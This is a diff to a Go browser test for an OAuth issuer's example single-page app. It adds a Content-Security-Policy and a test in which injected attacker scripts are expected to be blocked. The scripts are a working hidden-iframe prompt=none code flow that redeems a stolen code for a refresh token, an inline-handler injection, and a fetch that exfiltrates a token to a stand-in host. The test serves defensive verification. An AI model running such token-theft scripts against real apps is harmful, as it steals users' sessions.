@@ -32,10 +32,28 @@ func origin(s *httptest.Server) string {
 	return "http://localhost:" + a[strings.LastIndexByte(a, ':')+1:]
 }
 
-// The SPA in real Chromium: a silent attempt that finds no session, a
-// sign-in, an API call, a refresh with rotation, nothing in web storage, and
-// after a reload a silent sign-in with prompt=none.
-func TestSPAInBrowser(t *testing.T) {
+// contentSecurityPolicy is the header the SPA's host sends (the README shows
+// it): scripts from the app's origin only, no inline script, no frames, and
+// connections only to the app itself, the issuer and the API. index.html
+// carries the part that does not depend on where Latchkey and the API are.
+func contentSecurityPolicy(issuer, api string) string {
+	return "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; " +
+		"connect-src 'self' " + issuer + " " + api + "; " +
+		"frame-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'"
+}
+
+// spa is the example app served on http://localhost (same site as the
+// issuer, as an app and its Latchkey often are), its Latchkey, its API and
+// a browser.
+type spa struct {
+	browser  context.Context
+	lk       *lktest.Server
+	origin   string
+	clientID string
+}
+
+func startSPA(t *testing.T) *spa {
+	t.Helper()
 	browser := lktest.Browser(t, 90*time.Second)
 	need(t, "dist/app.js", "build it with `npm ci && npm run build` in clients/spa (.ci/run does)")
 
@@ -57,9 +75,11 @@ func TestSPAInBrowser(t *testing.T) {
 		}
 		protected.ServeHTTP(w, r)
 	}))
-	defer api.Close()
+	t.Cleanup(api.Close)
 
-	client := lk.AdminPost("/admin/clients", map[string]any{"client_name": "SPA", "token_endpoint_auth_method": "none", "trusted": true,
+	// Not trusted, as the README registers it: a public client in a browser
+	// gets the consent screen like any third party (issue 12 item 7).
+	client := lk.AdminPost("/admin/clients", map[string]any{"client_name": "SPA", "token_endpoint_auth_method": "none",
 		"grant_types": []string{"authorization_code", "refresh_token"}, "redirect_uris": []string{appOrigin + "/"},
 		"post_logout_redirect_uris": []string{appOrigin + "/"},
 		"scope":                     "invoices:read offline_access", "audience": []string{"https://api.example.com"}})
@@ -69,8 +89,10 @@ func TestSPAInBrowser(t *testing.T) {
 	}
 	cfg, _ := json.Marshal(map[string]string{"issuer": lk.Issuer, "client_id": client["client_id"].(string),
 		"redirect_uri": appOrigin + "/", "scope": "invoices:read offline_access", "api": api.URL + "/invoices"})
+	csp := contentSecurityPolicy(lk.Issuer, api.URL)
 	files := http.FileServer(http.Dir("dist"))
 	app.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Security-Policy", csp)
 		if r.URL.Path == "/config.json" {
 			w.Header().Set("Content-Type", "application/json")
 			_, _ = w.Write(cfg)
@@ -79,38 +101,56 @@ func TestSPAInBrowser(t *testing.T) {
 		files.ServeHTTP(w, r)
 	})
 	app.Start()
-	defer app.Close()
+	t.Cleanup(app.Close)
+	return &spa{browser: browser, lk: lk, origin: appOrigin, clientID: client["client_id"].(string)}
+}
 
-	waitText := func(id, want string) string {
-		t.Helper()
-		deadline := time.Now().Add(20 * time.Second)
-		var got string
-		for time.Now().Before(deadline) {
-			got, _ = chromedp.Run(browser, chromedp.Text(chromedp.ID(id)))
-			if strings.Contains(got, want) {
-				return got
-			}
-			time.Sleep(50 * time.Millisecond)
+func (s *spa) waitText(t *testing.T, id, want string) string {
+	t.Helper()
+	deadline := time.Now().Add(20 * time.Second)
+	var got string
+	for time.Now().Before(deadline) {
+		got, _ = chromedp.Run(s.browser, chromedp.Text(chromedp.ID(id)))
+		if strings.Contains(got, want) {
+			return got
 		}
-		t.Fatalf("#%s never showed %q; it shows %q", id, want, got)
-		return ""
+		time.Sleep(50 * time.Millisecond)
 	}
+	t.Fatalf("#%s never showed %q; it shows %q", id, want, got)
+	return ""
+}
 
-	if err := chromedp.Do(browser, chromedp.Navigate(appOrigin+"/")); err != nil {
+// signIn opens the app, which finds no session silently, and signs in,
+// allowing the consent the first time.
+func (s *spa) signIn(t *testing.T) {
+	t.Helper()
+	if err := chromedp.Do(s.browser, chromedp.Navigate(s.origin+"/")); err != nil {
 		t.Fatal(err)
 	}
-	waitText("status", "login_required") // the silent attempt found no session
-	err := chromedp.Do(browser,
+	s.waitText(t, "status", "login_required") // the silent attempt found no session
+	err := chromedp.Do(s.browser,
 		chromedp.Click(chromedp.CSS(`#login`)),
 		chromedp.WaitVisible(chromedp.CSS(`input[name=username]`)),
 		chromedp.SendKeys(chromedp.CSS(`input[name=username]`), "pia"),
 		chromedp.SendKeys(chromedp.CSS(`input[name=password]`), "pia-password-1"),
 		chromedp.Click(chromedp.CSS(`button[type=submit]`)),
+		chromedp.WaitVisible(chromedp.CSS(`button[name=consent][value=allow]`)),
+		chromedp.Click(chromedp.CSS(`button[name=consent][value=allow]`)),
 	)
 	if err != nil {
 		t.Fatalf("sign in: %v", err)
 	}
-	waitText("status", "Signed in as user-pia")
+	s.waitText(t, "status", "Signed in as user-pia")
+}
+
+// The SPA in real Chromium: a silent attempt that finds no session, a
+// sign-in, an API call, a refresh with rotation, nothing in web storage, and
+// after a reload a silent sign-in with prompt=none.
+func TestSPAInBrowser(t *testing.T) {
+	s := startSPA(t)
+	browser, lk := s.browser, s.lk
+	waitText := func(id, want string) string { t.Helper(); return s.waitText(t, id, want) }
+	s.signIn(t)
 
 	if err := chromedp.Do(browser, chromedp.Click(chromedp.CSS(`#call`))); err != nil {
 		t.Fatal(err)
@@ -146,4 +186,86 @@ func TestSPAInBrowser(t *testing.T) {
 	if live, err := lk.Store.ActiveRefreshTokensOf(context.Background(), "user-pia"); err != nil || live != 0 {
 		t.Fatalf("%d refresh tokens still work after sign-out (%v)", live, err)
 	}
+}
+
+// injected are scripts an attacker got into the SPA's origin. Each returns
+// what it achieved.
+var injected = []struct {
+	name, script, want string
+}{
+	// Issue 12 item 7: with the user signed in at Latchkey, run a code flow
+	// of its own with prompt=none in a hidden same-origin iframe, read the
+	// code from the iframe's URL and redeem it for a refresh token usable
+	// from anywhere. Tokens in memory do not stop this; the CSP's frame-src
+	// (and frame-ancestors on the redirect target) does.
+	{"silent code flow in a hidden iframe", `(async () => {
+  const b64 = (b) => btoa(String.fromCharCode(...new Uint8Array(b))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
+  const verifier = b64(crypto.getRandomValues(new Uint8Array(32)));
+  const challenge = b64(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
+  const u = new URL(ISSUER + "/oauth2/authorize");
+  for (const [k, v] of Object.entries({ client_id: CLIENT_ID, redirect_uri: REDIRECT_URI, response_type: "code",
+      scope: "invoices:read offline_access", state: b64(crypto.getRandomValues(new Uint8Array(16))), code_challenge: challenge, code_challenge_method: "S256", prompt: "none" })) {
+    u.searchParams.set(k, v);
+  }
+  const f = document.createElement("iframe");
+  f.style.display = "none";
+  f.src = u.href;
+  document.body.appendChild(f);
+  const code = await new Promise((resolve) => {
+    let n = 0;
+    const poll = setInterval(() => {
+      let found = null;
+      try { found = new URL(f.contentWindow.location.href).searchParams.get("code"); } catch {}
+      if (found || ++n > 500) { clearInterval(poll); resolve(found); }
+    }, 5);
+  });
+  f.remove();
+  if (!code) return "no code";
+  const r = await fetch(ISSUER + "/oauth2/token", { method: "POST", body: new URLSearchParams({ grant_type: "authorization_code",
+    code, redirect_uri: REDIRECT_URI, client_id: CLIENT_ID, code_verifier: verifier }) });
+  const j = await r.json();
+  return j.refresh_token ? "stole a refresh token" : "code but no token: " + JSON.stringify(j);
+})()`, "no code"},
+	// HTML injection: an inline event handler is script the CSP refuses.
+	{"inline event handler", `new Promise((resolve) => {
+  window.ran = false;
+  const img = document.createElement("img");
+  img.setAttribute("onerror", "window.ran = true");
+  img.addEventListener("error", () => resolve(window.ran ? "ran" : "blocked"));
+  img.src = "/missing.png";
+  document.body.appendChild(img);
+})`, "blocked"},
+	// Exfiltration with fetch to a host that is neither the issuer nor the
+	// API (Latchkey's admin listener stands in for the attacker's server).
+	{"fetch to another origin", `fetch(ELSEWHERE, { method: "POST", mode: "no-cors", body: "token" }).then(() => "sent", () => "blocked")`, "blocked"},
+}
+
+// Issue 12 item 7: what a script injected into the SPA's origin can do
+// while the user is signed in, against the CSP the SPA is served with.
+// Scripts run through DevTools, as if the CSP's first line (no script but
+// the app's own) had already failed.
+func TestInjectedScriptUnderCSP(t *testing.T) {
+	s := startSPA(t)
+	s.signIn(t)
+	replacer := strings.NewReplacer("ISSUER", jsString(s.lk.Issuer), "CLIENT_ID", jsString(s.clientID), "REDIRECT_URI", jsString(s.origin+"/"),
+		"ELSEWHERE", jsString(s.lk.Admin.URL+"/collect"))
+	for _, tc := range injected {
+		t.Run(tc.name, func(t *testing.T) {
+			got, err := chromedp.Run(s.browser, chromedp.Evaluate[string](replacer.Replace(tc.script), chromedp.EvalAwaitPromise))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got != tc.want {
+				t.Fatalf("the injected script: %q, want %q", got, tc.want)
+			}
+		})
+	}
+	if live, err := s.lk.Store.ActiveRefreshTokensOf(context.Background(), "user-pia"); err != nil || live != 1 {
+		t.Fatalf("%d live refresh tokens, want only the app's own (%v)", live, err)
+	}
+}
+
+func jsString(s string) string {
+	b, _ := json.Marshal(s)
+	return string(b)
 }
